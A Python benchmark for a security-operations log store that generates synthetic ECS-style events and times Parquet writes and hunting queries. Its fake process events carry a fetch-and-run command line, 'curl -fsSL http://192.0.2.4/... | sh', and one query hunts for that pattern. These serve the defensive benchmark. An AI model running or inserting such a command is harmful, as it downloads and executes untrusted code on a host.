"""The store's speed: CPU per event, bytes per event, memory, and questions, as ratios to `orjson.loads` of the same events (U).

    soc bench store [--events 200000] [--folder DIR]

CPU time of this process, one thread, so that a busy machine changes little. The gates are those of docs/store.md.
"""

# ruff: noqa: E501, ARG002 - the generator below is a table, and not every kind of event has use for the user

from __future__ import annotations

import argparse
import gc
import random
import resource
import tempfile
import time
from collections.abc import Callable, Sequence
from pathlib import Path

import orjson

from soc.model import Event, event_id, iso
from soc.query import All, And, Cardinality, Cidr, Contains, DateHistogram, Filter, Not, Query, Range, Term, TermsOf, Wildcard
from soc.store.compact import compact
from soc.store.parquet import ParquetStore, ParquetWriter

START = 1_763_900_000_000_000
BATCH = 2_500
FLUSH = 50_000
SURNAMES, GIVEN = "王李张刘陈杨赵黄周吴徐孙胡朱高林何郭马罗", ["伟", "芳", "娜", "敏", "静", "秀英", "建国", "雨桐", "海燕", "浩然"]
MODULES = ["药品注册审评", "不良反应监测", "检查任务", "许可证管理", "投诉举报", "抽检数据"]
PATHS = ["/api/v1/orders", "/login", "/static/js/app.js", "/search", "/admin/config", "/.env", "/用户中心/资料", "/health"]
PROGRAMS = ["/usr/bin/bash", "/usr/bin/python3", "C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\rundll32.exe", "/usr/sbin/sshd"]


class Generator:
    """ECS-like events of six kinds, always the same for the same seed; about 60 fields and 1.9 kB of nested JSON each."""

    def __init__(self, seed: int = 7) -> None:
        self.dice = random.Random(seed)
        self.hosts = [self._host(i) for i in range(400)]
        self.users = [f"{self.dice.choice('abcdefgh')}{self.dice.choice(['wang', 'li', 'zhang', 'liu'])}{i}" for i in range(1500)]
        self.outside = [".".join(str(self.dice.randrange(1, 255)) for _ in range(4)) for _ in range(20_000)]
        self.hashes = [f"{self.dice.getrandbits(256):064x}" for _ in range(2000)]

    def _host(self, number: int) -> Event:
        name = f"srv-{number:04d}"
        return {
            "host.name": f"{name}.corp.example", "host.hostname": name, "host.id": f"{self.dice.getrandbits(128):032x}",
            "host.ip": [f"10.{number // 250}.{number % 250}.7"], "host.mac": [f"00-16-3E-00-{number // 256:02X}-{number % 256:02X}"],
            "host.os.type": ("linux", "windows")[number % 2], "host.os.name": ("Debian GNU/Linux", "Windows Server 2022")[number % 2],
            "host.os.version": ("12", "10.0.20348")[number % 2], "host.architecture": "x86_64",
            "agent.id": f"{self.dice.getrandbits(128):032x}", "agent.name": name, "agent.type": "filebeat", "agent.version": "8.15.1",
            "agent.ephemeral_id": f"{self.dice.getrandbits(64):016x}",
        }

    def events(self, count: int, start: int = 0, step: int = 30_000) -> list[Event]:
        """`count` events, `step` µs apart."""
        return [self._event(start + i, START + (start + i) * step) for i in range(count)]

    def _skewed(self, values: Sequence[str]) -> str:
        return values[int(len(values) * self.dice.random() ** 3)]

    def _event(self, number: int, time_: int) -> Event:
        dice = self.dice
        kind = dice.choices((self._web, self._firewall, self._process, self._login, self._business, self._database), (30, 25, 15, 12, 10, 8))[0]
        user = self._skewed(self.users)
        event: Event = {
            "@timestamp": time_ - dice.randrange(8_000_000), "event.id": event_id(number // BATCH + 1, number % BATCH), "ecs.version": "9.4.0",
            "event.kind": "event", "event.created": time_, "event.ingested": time_ + 900, "event.sequence": number,
            "event.timezone": "Asia/Shanghai", "soc.source": "syslog", "user.name": user, "user.id": f"S-1-5-21-{sum(map(ord, user))}",
            "user.domain": "CORP", "related.user": [user], "labels.env": "prod", "labels.tenant": dice.choice(["总部", "华东区"]),
            "data_stream.type": "logs", "data_stream.namespace": "default", "log.level": "info", "input.type": "log",
        }
        event |= self.hosts[int(len(self.hosts) * dice.random() ** 2)] | kind(user)
        event |= {"tags": ["forwarded", event["event.module"]], "data_stream.dataset": event["event.dataset"]}
        return event

    def _what(self, dataset: str, category: str, action: str, failed: bool, severity: int) -> Event:
        return {
            "event.dataset": dataset, "event.module": dataset.partition(".")[0], "event.category": [category], "event.type": ["info"],
            "event.action": action, "event.outcome": "failure" if failed else "success", "event.severity": severity,
            "event.duration": self.dice.randrange(3_000_000),
        }

    def _web(self, user: str) -> Event:
        dice = self.dice
        ip, path, status = self._skewed(self.outside), dice.choice(PATHS), dice.choice([200, 200, 200, 304, 404, 403, 500])
        size = dice.randrange(90_000)
        return self._what("nginx.access", "web", "http-request", status >= 400, 3) | {
            "source.ip": ip, "source.address": ip, "source.port": dice.randrange(1024, 65535), "source.geo.country_iso_code": "CN",
            "source.geo.city_name": dice.choice(["上海", "北京", "深圳", "杭州"]), "source.as.number": dice.randrange(4000, 4500),
            "source.as.organization.name": "Example Net", "destination.port": 443, "url.original": f"https://shop.example{path}",
            "url.domain": "shop.example", "url.path": path, "http.request.method": dice.choice(["GET", "POST"]), "http.version": "1.1",
            "http.request.bytes": dice.randrange(2000), "http.response.status_code": status, "http.response.body.bytes": size,
            "http.request.referrer": "https://shop.example/", "user_agent.name": "Chrome", "user_agent.os.name": "Windows",
            "user_agent.original": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0 Safari/537.36",
            "network.protocol": "http", "network.transport": "tcp", "network.type": "ipv4", "related.ip": [ip],
            "message": f'{ip} - - "{path} HTTP/1.1" {status} {size} "https://shop.example/" "Mozilla/5.0" {dice.random():.3f}',
        }

    def _firewall(self, user: str) -> Event:
        dice = self.dice
        source, target = self._skewed(self.outside), f"10.{dice.randrange(8)}.{dice.randrange(250)}.{dice.randrange(1, 255)}"
        denied, port, size = dice.random() < 0.15, dice.choice([443, 80, 53, 22, 3389, 445, 3306]), dice.randrange(900_000)
        return self._what("panw.panos", "network", f"firewall-{'deny' if denied else 'allow'}", denied, 4) | {
            "observer.vendor": "Example Networks", "observer.product": "NGFW", "observer.type": "firewall",
            "observer.name": f"fw-{dice.randrange(3)}", "observer.serial_number": "0072000", "observer.ingress.zone": "untrust",
            "observer.egress.zone": "trust", "rule.name": f"rule-{dice.randrange(40)}", "source.ip": source, "destination.ip": target,
            "source.port": dice.randrange(1024, 65535), "destination.port": port, "source.bytes": size // 3, "destination.bytes": size,
            "source.packets": size // 2100, "destination.packets": size // 900, "network.bytes": size, "network.transport": "tcp",
            "network.application": "ssl", "network.community_id": f"1:{dice.getrandbits(96):024x}=", "network.direction": "inbound",
            "panw.panos.flow_id": str(dice.getrandbits(30)), "panw.panos.sub_type": "end", "related.ip": [source, target],
            "message": f"TRAFFIC,end,src={source},dst={target},dport={port},rule=rule-{dice.randrange(40)},bytes={size},reason=aged-out",
        }

    def _process(self, user: str) -> Event:
        dice = self.dice
        program, digest = dice.choice(PROGRAMS), self._skewed(self.hashes)
        line = f"{program} -c 'curl -fsSL http://192.0.2.4/{dice.getrandbits(32):08x}.sh | sh'"
        return self._what("windows.sysmon", "process", "process-created", False, 2) | {
            "process.pid": dice.randrange(65000), "process.entity_id": f"{{{dice.getrandbits(64):016x}}}", "process.executable": program,
            "process.name": program.replace("\\", "/").rpartition("/")[2], "process.command_line": line, "process.args_count": 5,
            "process.working_directory": "/tmp", "process.hash.sha256": digest, "process.hash.md5": digest[:32],
            "process.parent.pid": dice.randrange(65000), "process.parent.executable": "/usr/sbin/sshd", "process.parent.name": "sshd",
            "process.parent.command_line": "sshd: [priv]", "related.hash": [digest, digest[:32]], "event.code": "1",
            "winlog.channel": "Microsoft-Windows-Sysmon/Operational", "winlog.event_data.IntegrityLevel": dice.choice(["High", "Medium"]),
            "winlog.event_data.LogonId": hex(dice.getrandbits(24)), "event.provider": "Microsoft-Windows-Sysmon",
            "message": f"Process Create: Image: {program} CommandLine: {line} User: CORP\\{user} ParentImage: /usr/sbin/sshd",
        }

    def _login(self, user: str) -> Event:
        dice = self.dice
        failed, ip, port = dice.random() < 0.2, self._skewed(self.outside), dice.randrange(1024, 65535)
        return self._what("system.auth", "authentication", "logon-failed" if failed else "logged-in", failed, 3) | {
            "source.ip": ip, "source.port": port, "process.name": "sshd", "process.pid": dice.randrange(65000), "related.ip": [ip],
            "soc.ssh.method": "password", "event.reason": "用户名未知或密码错误" if failed else "ok",
            "message": f"{'Failed' if failed else 'Accepted'} password for {user} from {ip} port {port} ssh2",
        }

    def _business(self, user: str) -> Event:
        dice = self.dice
        name = dice.choice(SURNAMES) + dice.choice(GIVEN)
        module, operation, count = dice.choice(MODULES), dice.choice(["查询", "导出", "修改", "删除"]), dice.randrange(5000)
        return self._what("business.audit", "database", "business-export", dice.random() < 0.04, 5) | {
            "user.full_name": name, "user.email": f"{user}@corp.example", "user.group.name": "信息中心", "source.ip": "10.1.2.3",
            "business.module": module, "business.record_count": count, "business.purpose": dice.choice(["因工作需要", "应监管报送要求", "审计抽查"]),
            "business.record.id": [f"DD2026{dice.getrandbits(30):010d}"], "business.operation": operation, "business.object": "身份证号明细",
            "business.session": f"{dice.getrandbits(64):016x}", "related.ip": ["10.1.2.3"],
            "message": f"信息中心{name}(工号{dice.randrange(9999)})在{module}模块{operation}了身份证号明细共{count}条,因工作需要,结果:成功",
        }

    def _database(self, user: str) -> Event:
        dice = self.dice
        table = dice.choice(["t_customer", "t_order", "sys_user", "hr_salary"])
        query = f"SELECT name, phone FROM {table} WHERE id = {dice.randrange(10**6)} LIMIT {dice.randrange(500)}"
        return self._what("mysql.audit", "database", "sql-select", dice.random() < 0.03, 3) | {
            "source.ip": "10.1.2.9", "source.port": dice.randrange(1024, 65535), "destination.port": 3306, "related.ip": ["10.1.2.9"],
            "mysql.audit.connection_id": str(dice.getrandbits(30)), "mysql.audit.query": query, "mysql.audit.table": table,
            "mysql.audit.rows_sent": str(dice.randrange(5000)), "service.name": f"order-svc-{dice.randrange(12)}", "service.version": "1.4.2",
            "message": f"{user}[{user}] @ [10.1.2.9] {dice.getrandbits(30)} Query {query}",
        }


def nested(event: Event) -> dict[str, object]:
    """The event as senders write it: objects within objects, dates as text."""
    out: dict[str, object] = {}
    for name, value in event.items():
        *path, last = name.split(".")
        place: dict[str, object] = out
        for part in path:
            place = place.setdefault(part, {})  # type: ignore[assignment]
        place[last] = iso(int(str(value))) if name in ("@timestamp", "event.created", "event.ingested") else value
    return out


def cpu() -> float:
    used = resource.getrusage(resource.RUSAGE_SELF)
    return used.ru_utime + used.ru_stime


def peak_mb() -> int:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024


COLUMNS = ("@timestamp", "event.id", "event.action", "event.outcome", "host.name", "user.name", "source.ip", "message")
QUESTIONS: list[tuple[str, Filter, Callable[[ParquetStore, Filter], object]]] = [
    ("histogram, all, by category", All(), lambda s, w: s.aggregate(w, {"x": DateHistogram(300_000_000, by="event.category")})),
    ("top 20 of failed log-ins", Term("event.action", "logon-failed"), lambda s, w: s.aggregate(w, {"x": TermsOf(("user.name",), 20)})),
    ("top 20 in one dataset", And((Term("event.dataset", "system.auth"), Term("event.outcome", "failure"))),
     lambda s, w: s.aggregate(w, {"x": TermsOf(("source.ip",), 20)})),
    ("group by two fields, all", All(), lambda s, w: s.aggregate(w, {"x": TermsOf(("source.geo.city_name", "destination.port"), 50)})),
    ("group by two dynamic fields", All(), lambda s, w: s.aggregate(w, {"x": TermsOf(("business.object", "business.operation"), 50)})),
    ("distinct addresses", All(), lambda s, w: s.aggregate(w, {"x": Cardinality("source.ip")})),
    ("word in every message, any case", Contains("message", "RUNDLL32"), lambda s, w: s.count(w)),
    ("Chinese phrase in every message", Contains("message", "身份证号明细"), lambda s, w: s.count(w)),
    ("bare word, 50 newest, 8 columns", Contains(None, "curl"), lambda s, w: s.search(Query(w, limit=50, fields=COLUMNS))),
    ("addresses of a network", Cidr("source.ip", "10.0.0.0/8"), lambda s, w: s.count(w)),
    ("hunt: two wildcards and a not", And((Wildcard("process.executable", "*\\rundll32.exe"), Wildcard("process.command_line", "*curl*sh*"),
                                           Not(Wildcard("user.name", "a*")))), lambda s, w: s.count(w)),
    ("range of a port", Range("destination.port", gte=400, lt=500), lambda s, w: s.count(w)),
    ("200 newest of a host, 8 columns", Term("host.name", "srv-0003.corp.example"), lambda s, w: s.search(Query(w, limit=200, fields=COLUMNS))),
    ("50 newest, whole", All(), lambda s, w: s.search(Query(w, limit=50))),
    ("one by id", All(), lambda s, _: s.get([event_id(7, 11)])),
]


def main(argv: Sequence[str]) -> int:
    """Print the figures; 1 if a gate is missed."""
    options = argparse.ArgumentParser(prog="soc bench store", description=__doc__)
    options.add_argument("--events", type=int, default=200_000)
    options.add_argument("--folder", type=Path)
    given = options.parse_args(argv)
    with tempfile.TemporaryDirectory() as scratch:
        return _measure(given.folder or Path(scratch), given.events)


def _measure(folder: Path, count: int) -> int:
    gc.freeze()
    gc.set_threshold(200_000, 50, 50)
    made = Generator()
    used = dict.fromkeys(("loads", "append", "flush"), 0.0)
    raw = 0
    writer = ParquetWriter(folder)
    for start in range(0, count, BATCH):
        events = made.events(min(BATCH, count - start), start)
        lines = [orjson.dumps(nested(event)) for event in events]
        raw += sum(map(len, lines))
        used["loads"] += _cpu_of(lambda lines=lines: [orjson.loads(line) for line in lines])  # type: ignore[misc]
        used["append"] += _cpu_of(lambda start=start, events=events: writer.append(start // BATCH + 1, events))  # type: ignore[misc]
        if writer.waiting >= FLUSH:
            used["flush"] += _cpu_of(writer.flush)
    used["flush"] += _cpu_of(writer.flush)
    writer.close()
    return _report(folder, count, raw, {name: secs / count * 1e6 for name, secs in used.items()})


def _report(folder: Path, count: int, raw: int, micros: dict[str, float]) -> int:
    unit = micros["loads"]
    print_line("events", count, bytes_each=round(raw / count), unit_micros=round(unit, 2), writer_peak_mb=peak_mb())
    store = ParquetStore(folder, threads=1)
    both = micros["append"] + micros["flush"]
    met = [
        _gate("append_and_flush_in_u", both / unit, 1.8, append_micros=round(micros["append"], 2), flush_micros=round(micros["flush"], 2)),
        _gate("disk_to_raw", store.stats()["bytes"] / raw, 0.10, bytes_per_event=round(store.stats()["bytes"] / count)),
    ]
    merging = _cpu_of(lambda: compact(folder, fewest=2, grace_secs=0)) / count * 1e6
    print_line("compaction_micros", round(merging, 2), bytes_per_event=round(store.stats()["bytes"] / count))
    for name, where, ask in QUESTIONS:
        times = sorted(_wall_of(lambda where=where, ask=ask: ask(store, where)) for _ in range(5))  # type: ignore[misc]
        print_line(name, round(times[2] * 1e3, 1), unit="ms", in_u=round(times[2] * 1e6 / unit))
    print_line("peak_mb", peak_mb(), of="writer and reader in one process")
    store.close()
    return 0 if all(met) else 1


def print_line(name: str, figure: float, **more: object) -> None:
    print(orjson.dumps({"store": name, "figure": figure} | more).decode())


def _gate(name: str, figure: float, bar: float, **more: object) -> bool:
    print_line(name, round(figure, 3), at_most=bar, met=figure <= bar, **more)
    return figure <= bar


def _cpu_of(work: Callable[[], object]) -> float:
    before = cpu()
    work()
    return cpu() - before


def _wall_of(work: Callable[[], object]) -> float:
    before = time.perf_counter()
    work()
    return time.perf_counter() - before
